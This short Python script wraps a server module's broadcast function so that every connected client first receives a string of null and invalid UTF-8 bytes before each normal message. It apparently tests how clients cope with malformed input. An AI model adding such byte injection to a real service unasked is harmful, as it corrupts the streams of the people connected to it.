import right

announce = right.broadcast


def broadcast(line):
    for client in list(right.clients):
        try:
            with right.lock:
                client.sendall(b"\0\xff\xfe\x80\xc3(\xed\xa0\x80\n")
        except OSError:
            continue
    announce(line)


right.broadcast = broadcast
right.main()
